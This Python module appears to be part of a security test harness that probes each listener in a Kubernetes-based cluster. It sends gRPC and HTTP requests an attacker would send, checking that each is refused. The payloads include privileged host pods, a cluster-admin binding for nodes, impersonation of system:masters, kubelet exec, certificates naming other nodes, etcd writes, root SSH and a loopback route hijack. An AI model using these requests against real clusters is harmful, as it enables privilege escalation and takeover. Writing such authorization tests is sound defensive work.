"""What an attacker sends to each kind of listener.

Methods of gRPC come from the contracts in proto/, resources of Kubernetes from the API server itself, which lists them for
an administrator. Each listening socket of each machine must be of a kind that is here.
"""

import json
import re
import socket
import subprocess
import time

from channels import Calls, NotServed, Requests, methods
from loot import openssl
from protobuf import all_of, message, number

CURATOR, AGENT, FLEET = 'shepherd.curator.v1', 'shepherd.agent.v1', 'shepherd.fleet.v1'
# The ports by which a kind of listener is known. A program that listens elsewhere fails the run.
KINDS = {
    ('roleserver', 7835): 'curator',
    ('etcd', 7834): 'etcd-peer',
    ('kube-apiserver', 6443): 'kube-apiserver',
    ('kubelet', 10250): 'kubelet',
    ('kube-controller', 10257): 'kube-controller-manager',
    ('kube-scheduler', 10259): 'kube-scheduler',
    ('shepherd', 8443): 'agents',
    ('shepherd', 8444): 'fleet-api',
    ('sshd', 22): 'sshd',
}
# Where only a name is given: another node.
SOMEBODY = 'node-00000000000000000000000000000001'
SOME_UUID = '0b9b2e8e-5a0f-4c53-9d0e-0f9d3f1f2a11'


class Target:
    """One listening socket: `MACHINE ADDRESS BOUND PORT PROGRAM` in the list of listeners."""

    def __init__(self, line):
        self.machine, self.address, self.bound, port, self.program = line.split()
        self.port = int(port)
        self.is_loopback = self.bound.startswith('127.') or self.bound == '::1'
        self.kind = 'loopback' if self.is_loopback else KINDS.get((self.program, self.port), 'unknown')
        self.at = (self.address, self.port)

    def __str__(self):
        return f'{self.machine} {self.bound}:{self.port} ({self.program})'


def read_targets(path):
    with open(path) as file:
        return [Target(line) for line in file if line.strip()]


# ---------------------------------------------------------------- curators


def p256_key():
    key = openssl('genpkey', '-algorithm', 'EC', '-pkeyopt', 'ec_paramgen_curve:P-256')
    return openssl('pkey', '-pubout', '-outform', 'DER', text=key)


# The methods that issue certificates to a node, and the fields that lead to the certificate in the response.
ISSUING = {
    'Registration/Commit': (2, 1), 'Registration/Join': (1, 1), 'Nodes/RenewCertificate': (1,), 'Nodes/IssuePeerCertificate': (1,),
    'Nodes/IssueCuratorCertificate': (1,), 'Kubernetes/IssueCertificate': (1,),
}
# A certificate of a kubelet as a server, which names the node's address.
SERVES = 'Kubernetes/IssueCertificate 10'
CLAIM = 'Nodes/UpdateStatus own'


def claims_of(plan, who):
    """The addresses of others that a node claims for itself: names of requests, and the addresses."""
    own = plan['own'].get(who)
    return [(f'{CLAIM} at {holder}', address) for holder, address in plan['claims'] if address != own]


def names_in(certificate):
    """The names and addresses in a certificate, and each node in its subject."""
    text = openssl('x509', '-inform', 'DER', '-noout', '-text', text=certificate).decode()
    subject = re.search(r'^ *Subject:(.*)$', text, re.MULTILINE)[1]
    names = set(re.findall(r'node-[0-9a-f]{32}', subject))
    for line in re.findall(r'X509v3 Subject Alternative Name:.*\n *(.*)', text):
        names |= {name.split(':', 1)[1] for name in line.split(', ')}
    return names


def answer_with_certificate(name, found, allowed):
    """The answer of a method that has issued a certificate: OK if it names nobody but the node that requested it."""
    parts = [found]
    for field in ISSUING[name.split(' ')[0]]:
        parts = [inner for part in parts for inner in all_of(part, field)]
    if not parts:
        return 'OK without a certificate', ''
    names = names_in(parts[0])
    if foreign := names - allowed:
        return f'OK for {" ".join(sorted(foreign))}', 'the certificate names somebody else'
    if name == SERVES and names != allowed:
        return 'OK without its address', f'the certificate names {" ".join(sorted(names)) or "nobody"}'
    return 'OK', ''


def curator_requests(own, others, plan, who):
    """Every method with a request that would change something, if it has one: pairs of a name and the message.

    The claims of addresses are made before a certificate is requested.
    """
    for name, address in claims_of(plan, who):
        yield name, f'{CURATOR}.Nodes/UpdateStatus', message(1, own) + message(2, message(1, address))
    key, p256 = bytes(range(32)), p256_key()
    hour = number(3, 3_600_000)
    victim = others[0] if others else SOMEBODY
    known = {
        'Registration/Register': [('', message(1, b'\7' * 32))],
        'Nodes/Watch': [('own', message(1, own))] + [('other', message(1, one)) for one in others],
        'Nodes/UpdateStatus': [('other', message(1, one) + message(2, message(1, plan['attacker'])))
                               for one in others or [SOMEBODY]],
        'Kubernetes/IssueCertificate': [(str(kind), number(1, kind) + message(2, p256)) for kind in range(1, 12)],
        'Kubernetes/IssueUser': [('', message(1, p256) + message(2, 'attack') + number(3, 1) + number(4, 3_600_000))],
        'Kubernetes/Rotate': [(str(kind), number(1, kind)) for kind in range(1, 7)],
        'Declarations/Put': [('', message(1, message(1, 'attack')))],
        'Declarations/Delete': [('', message(1, 'web'))],
        'Management/Approve': [('', message(1, key))],
        'Management/UpdateRoles': [('', message(1, own) + message(2, 'consensus-member'))],
        'Management/UpdateLabels': [('', message(1, victim) + message(2, message(1, 'attack') + message(2, 'attack')))],
        'Management/Decommission': [('', message(1, victim))],
        'Management/Delete': [('', message(1, victim) + number(2, 1) + number(3, 1))],
        'Tickets/Create': [('', number(1, 3_600_000) + message(3, 'attack'))],
        'Credentials/IssueOwner': [('', message(1, key) + message(2, 'attack') + hour)],
        'Credentials/ClaimOwner': [('', number(1, 3_600_000))],
        'Credentials/AddOwnerKey': [('', message(1, key))],
        'Credentials/Revoke': [('', message(2, victim))],
    }
    for method in methods(plan['contracts'], CURATOR):
        short = method.removeprefix(f'{CURATOR}.')
        for name, body in known.get(short, [('', b'')]):
            yield f'{short} {name}'.strip(), method, body


def try_curator(attempts, identity, target, plan):
    calls = Calls(target.at, identity)
    who = identity.name.split('/')[0]
    own = plan['nodes'].get(who, SOMEBODY)
    allowed = {own, plan['own'].get(who, own)}
    others = [one for one in plan['victims'] if one != own]
    for name, method, body in curator_requests(own, others, plan, who):

        def make(name=name, method=method, body=body):
            # A key that proves nothing else makes two calls per second.
            for _ in range(20):
                code, text, found = calls.call(method, body)
                if code not in ('RESOURCE_EXHAUSTED', 'UNAVAILABLE'):
                    break
                time.sleep(0.6)
            if code == 'OK' and name.split(' ')[0] in ISSUING:
                return answer_with_certificate(name, found, allowed)
            if code == 'FAILED_PRECONDITION' and name.startswith(CLAIM) and 'address' not in text:
                # Something else than the address was refused, so nothing is known of the address.
                return f'{code} for another reason', text
            return code, text

        attempts.attempt(identity, 'curator', target.at, name, make)
    calls.close()


# ---------------------------------------------------------------- etcd

# What members serve each other, on the releases that are supported.
PEER_REQUESTS = [
    ('GET', '/version'), ('GET', '/members'), ('POST', '/members/promote/1'), ('POST', '/members/hashkv'),
    ('GET', '/raft/probing'), ('POST', '/raft'), ('GET', '/raft/stream/message/1'), ('GET', '/raft/stream/msgapp/1'),
    ('POST', '/raft/snapshot'), ('GET', '/leases'), ('POST', '/leases'), ('POST', '/leases/internal'),
    ('GET', '/downgrade/enabled'), ('GET', '/metrics'), ('GET', '/health'), ('GET', '/debug/vars'), ('GET', '/v2/keys/'),
]
# The calls of etcd's clients, which its releases serve at a UNIX socket here. These are not in our part of its contract.
MORE_METHODS = [f'etcdserverpb.{method}' for method in (
    'KV/Put', 'KV/DeleteRange', 'Lease/LeaseTimeToLive', 'Lease/LeaseLeases', 'Maintenance/Hash', 'Maintenance/HashKV',
    'Maintenance/MoveLeader', 'Auth/AuthDisable', 'Auth/UserAdd', 'Auth/UserList', 'Auth/Authenticate')]


def try_etcd(attempts, identity, target, plan):
    for verb, path in PEER_REQUESTS:
        requests = Requests(target.at, identity)
        attempts.attempt(identity, 'etcd-peer', target.at, f'{verb} {path}',
                         lambda requests=requests, verb=verb, path=path: str(requests.request(verb, path)[0]))
        requests.close()
    key = message(1, b'attack')
    bodies = {
        'KV/Range': message(1, b'\0') + message(2, b'\0'), 'KV/Put': key + message(2, b'attack'),
        'KV/DeleteRange': key, 'Cluster/MemberAdd': message(1, f'https://{plan["attacker"]}:7834'),
        'KV/Txn': message(2, message(2, key + message(2, b'attack'))),
        'Watch/Watch': message(1, message(1, b'\0') + message(2, b'\0')),
    }
    for method in [*methods(plan['contracts'], 'etcdserverpb'), *MORE_METHODS]:
        short = method.removeprefix('etcdserverpb.')
        calls = Calls(target.at, identity)
        attempts.attempt(identity, 'etcd-peer', target.at, short,
                         lambda calls=calls, method=method, short=short: calls.call(method, bodies.get(short, b''))[:2])
        calls.close()


# ---------------------------------------------------------------- Kubernetes


def http_attempts(attempts, identity, kind, target, requests):
    connection = Requests(target.at, identity)
    for name, verb, path, body, headers in requests:

        def make(verb=verb, path=path, body=body, headers=headers):
            status, text = connection.request(verb, path, body and json.dumps(body), headers)
            return str(status), text.decode(errors='replace')

        attempts.attempt(identity, kind, target.at, name, make)
    connection.close()


def api_requests(plan):
    """Requests to an API server: every resource that it lists, and then what would change something or act for others."""
    worker = plan['kubernetes']['worker']
    other = plan['kubernetes']['other']
    yield from ((path, 'GET', path, None, ()) for path in ('/version', '/api', '/apis', '/openapi/v2', '/healthz', '/livez',
                                                           '/readyz', '/metrics', '/logs', '/debug/pprof/'))
    yield from ((f'list {path}', 'GET', path, None, ()) for path in plan['kubernetes']['resources'])
    core, default = '/api/v1', '/api/v1/namespaces/default'
    yield 'get own node', 'GET', f'{core}/nodes/{worker}', None, ()
    yield 'get a Secret', 'GET', f'{core}/namespaces/kube-system/secrets/{plan["kubernetes"]["secret"]}', None, ()
    yield 'get a ConfigMap', 'GET', f'{core}/namespaces/default/configmaps/attacked', None, ()
    merge = [('Content-Type', 'application/merge-patch+json')]
    taint = {'metadata': {'labels': {'node-role.kubernetes.io/attack': ''}}}
    yield 'patch own node', 'PATCH', f'{core}/nodes/{worker}', taint, merge
    yield 'patch another node', 'PATCH', f'{core}/nodes/{other}', taint, merge
    yield 'delete own node', 'DELETE', f'{core}/nodes/{worker}?dryRun=All', None, ()
    meta = {'metadata': {'name': 'attack'}}
    container = {'name': 'attack', 'image': 'localhost/web:1', 'command': ['/bin/busybox', 'id']}
    yield 'create a namespace', 'POST', f'{core}/namespaces', meta, ()
    yield 'create a ConfigMap', 'POST', f'{default}/configmaps', meta, ()
    yield 'create a Secret', 'POST', f'{default}/secrets', meta, ()
    yield 'create a pod', 'POST', f'{default}/pods', {**meta, 'spec': {'containers': [container]}}, ()
    yield 'create a pod on the host', 'POST', f'{default}/pods', {**meta, 'spec': {
        'nodeName': worker, 'hostPID': True, 'hostNetwork': True,
        'containers': [{**container, 'securityContext': {'privileged': True}}]}}, ()
    yield 'create a node', 'POST', f'{core}/nodes', meta, ()
    rbac = '/apis/rbac.authorization.k8s.io/v1'
    yield 'create a ClusterRoleBinding', 'POST', f'{rbac}/clusterrolebindings', {
        **meta, 'roleRef': {'apiGroup': 'rbac.authorization.k8s.io', 'kind': 'ClusterRole', 'name': 'cluster-admin'},
        'subjects': [{'kind': 'Group', 'apiGroup': 'rbac.authorization.k8s.io', 'name': 'system:nodes'}]}, ()
    yield 'create a webhook', 'POST', '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations', meta, ()
    yield 'create an APIService', 'POST', '/apis/apiregistration.k8s.io/v1/apiservices', meta, ()
    yield 'delete a Deployment', 'DELETE', '/apis/apps/v1/namespaces/default/deployments/web?dryRun=All', None, ()
    yield 'request a certificate', 'POST', '/apis/certificates.k8s.io/v1/certificatesigningrequests', {
        **meta, 'spec': {'request': plan['kubernetes']['request'], 'usages': ['client auth'],
                         'signerName': 'kubernetes.io/kube-apiserver-client'}}, ()
    yield 'review a token', 'POST', '/apis/authentication.k8s.io/v1/tokenreviews', {'spec': {'token': 'attack'}}, ()
    access = {'spec': {'user': 'attack', 'resourceAttributes': {'verb': 'get', 'resource': 'secrets'}}}
    yield 'review an access', 'POST', '/apis/authorization.k8s.io/v1/subjectaccessreviews', access, ()
    yield 'request a token', 'POST', f'{core}/namespaces/kube-system/serviceaccounts/default/token', {'spec': {}}, ()
    pod = plan['kubernetes']['pod']
    yield 'exec', 'POST', f'{default}/pods/{pod}/exec?command=/bin/busybox&command=id&stdout=true', None, ()
    yield 'the log of a pod', 'GET', f'{default}/pods/{pod}/log', None, ()
    yield 'proxy to a node', 'GET', f'{core}/nodes/{worker}/proxy/pods', None, ()
    yield 'proxy to a pod', 'GET', f'{default}/pods/{pod}/proxy/', None, ()
    for name, headers in (
            ('as system:masters', [('Impersonate-User', 'attack'), ('Impersonate-Group', 'system:masters')]),
            ('as the reconciler', [('Impersonate-User', 'shepherd:reconciler')]),
            ('as a front proxy', [('X-Remote-User', 'attack'), ('X-Remote-Group', 'system:masters')])):
        yield f'list Secrets {name}', 'GET', f'{core}/secrets', None, headers
        yield f'create a namespace {name}', 'POST', f'{core}/namespaces', meta, headers


def try_api_server(attempts, identity, target, plan):
    http_attempts(attempts, identity, 'kube-apiserver', target, api_requests(plan))


def try_kubelet(attempts, identity, target, plan):
    pod = f'default/{plan["kubernetes"]["pod"]}/web'
    command = 'command=/bin/busybox&command=id&output=1'
    paths = [('GET', path) for path in (
        '/pods', '/runningpods/', '/metrics', '/metrics/cadvisor', '/metrics/probes', '/metrics/resource', '/stats/summary',
        '/logs/', '/configz', '/healthz', '/healthz/ping', '/debug/pprof/', '/debug/flags/v')]
    paths += [('GET', f'/containerLogs/{pod}'), ('POST', f'/run/{pod}?cmd=/bin/busybox'), ('POST', f'/exec/{pod}?{command}'),
              ('POST', f'/attach/{pod}?output=1'), ('POST', f'/portForward/{pod.removesuffix("/web")}'),
              ('PUT', '/debug/flags/v')]
    requests = [(f'{verb} {path.split("/default/")[0].split("?")[0]}', verb, path, None, ()) for verb, path in paths]
    http_attempts(attempts, identity, 'kubelet', target, requests)


def try_controllers(attempts, identity, target, _plan):
    paths = ('/healthz', '/metrics', '/configz', '/debug/pprof/', '/debug/controllers', '/')
    http_attempts(attempts, identity, target.kind, target, [(f'GET {path}', 'GET', path, None, ()) for path in paths])


# ---------------------------------------------------------------- the shepherd


def try_agents(attempts, identity, target, plan):
    calls = Calls(target.at, identity)
    machines = plan['machines']
    own = machines.get(identity.name.split('/')[0])
    for method in methods(plan['contracts'], AGENT):
        short = method.removeprefix(f'{AGENT}.')
        for machine in ([own] if own else []) + [one for one in plan['all_machines'] if one != own]:
            about = 'own' if machine == own else 'other'
            body = message(1, machine)
            if short.endswith('FetchArtefact'):
                body += message(2, b'\0' * 32)
            elif (identity.name, about) != ('b/agent', 'own'):
                # A report that would count: a UUID for the boot, the process or the request. A machine that has an agent
                # gets none that would replace it.
                body += message(2, SOME_UUID) + message(3, SOME_UUID) + number(4, 1)
                body += message(5, message(1, 'attack')) if short.endswith('BringLog') else message(5, '0.1.0')
            attempts.attempt(identity, 'agents', target.at, f'{short} {about}',
                             lambda method=method, body=body: calls.call(method, body)[:2])
    calls.close()


def try_fleet(attempts, identity, target, plan):
    calls, connection = Calls(target.at, identity), Requests(target.at, identity)
    more = ['grpc.health.v1.Health/Check', 'grpc.reflection.v1.ServerReflection/ServerReflectionInfo']
    for method in methods(plan['contracts'], FLEET) + more:
        short = method.removeprefix(f'{FLEET}.')
        attempts.attempt(identity, 'fleet-api', target.at, short, lambda method=method: calls.call(method)[:2])
        if method not in more:
            attempts.attempt(identity, 'fleet-api', target.at, f'POST /api/{short}',
                             lambda method=method: str(connection.request('POST', f'/api/{method}', '{}')[0]))
    calls.close()
    connection.close()


# ---------------------------------------------------------------- others


def try_ssh(attempts, identity, target, _plan):
    key = f'{identity.pair}.ssh'

    def make():
        done = subprocess.run(
            ['ssh', '-F', '/dev/null', '-o', 'BatchMode=yes', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null',
             '-o', 'IdentitiesOnly=yes', '-o', 'ConnectTimeout=5', '-i', key, f'root@{target.address}', 'id'],
            capture_output=True, check=False)
        text = done.stderr.decode(errors='replace')
        if done.returncode == 255 and 'Permission denied' in text:
            return 'permission denied'
        if done.returncode == 255:
            raise NotServed(text.strip().splitlines()[-1] if text.strip() else 'ssh failed')
        return 'a session'

    attempts.attempt(identity, 'sshd', target.at, 'id', make)


def try_unknown(attempts, identity, target, _plan):
    """A program that listens where none should: each answer is a success, in plain text and by TLS."""
    for path in '/', '/metrics', '/configz', '/version', '/v2/keys/':
        connection = Requests(target.at, identity, is_plain=True)
        attempts.attempt(identity, 'unknown', target.at, f'GET {path} at {target.program}:{target.port}',
                         lambda connection=connection, path=path: str(connection.request('GET', path)[0]))
        connection.close()
    calls = Calls(target.at, identity)
    attempts.attempt(identity, 'unknown', target.at, f'TLS at {target.program}:{target.port}', lambda: calls.call('attack')[0])


def try_loopback(attempts, identity, target, _plan):
    """Sends packets for the loopback address of a machine to that machine, as any host in its network can."""
    subprocess.run(['ip', 'route', 'replace', '127.0.0.1/32', 'via', target.address, 'dev', 'eth0'], check=True)

    def make():
        try:
            with socket.create_connection(('127.0.0.1', target.port), timeout=2):
                return 'connected'
        except TimeoutError as error:
            raise NotServed('nothing arrives') from error
        except OSError as error:
            raise NotServed(str(error)) from error

    attempts.attempt(identity, 'loopback', (target.address, target.port, 'loopback'), target.program, make)


TRIES = {
    'curator': try_curator,
    'etcd-peer': try_etcd,
    'kube-apiserver': try_api_server,
    'kubelet': try_kubelet,
    'kube-controller-manager': try_controllers,
    'kube-scheduler': try_controllers,
    'agents': try_agents,
    'fleet-api': try_fleet,
    'sshd': try_ssh,
    'loopback': try_loopback,
    'unknown': try_unknown,
}
